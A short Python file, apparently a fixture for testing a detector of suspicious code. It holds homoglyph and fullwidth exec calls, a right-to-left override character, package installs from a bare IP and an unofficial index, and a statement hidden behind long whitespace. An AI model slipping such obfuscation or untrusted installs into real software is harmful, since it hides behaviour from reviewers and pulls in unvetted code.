import os, subprocess, sys, pip
ｅｘｅｃ('x')
еxеc(1)
x = '‮abc'
subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://203.0.113.7/x.git'])
os.system('pip install -i https://pkgs.example.invalid/simple numpy')
pip.main(['install', '--target=./v', 'six'])
y = 1;                                                                                                                                                                import os; os.getcwd()
